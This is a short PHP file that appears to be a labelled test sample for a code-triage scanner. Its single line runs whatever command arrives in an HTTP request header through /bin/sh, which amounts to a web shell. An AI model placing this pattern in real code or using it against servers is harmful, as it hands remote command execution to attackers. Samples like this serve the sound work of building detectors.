<?php
// triage-expect: triage_php_request_direct_exec
// The command rides in a request header, glued to a fixed shell prefix.
echo exec('/bin/sh -c ' . $_SERVER['HTTP_X_REQUEST_TRACE']);
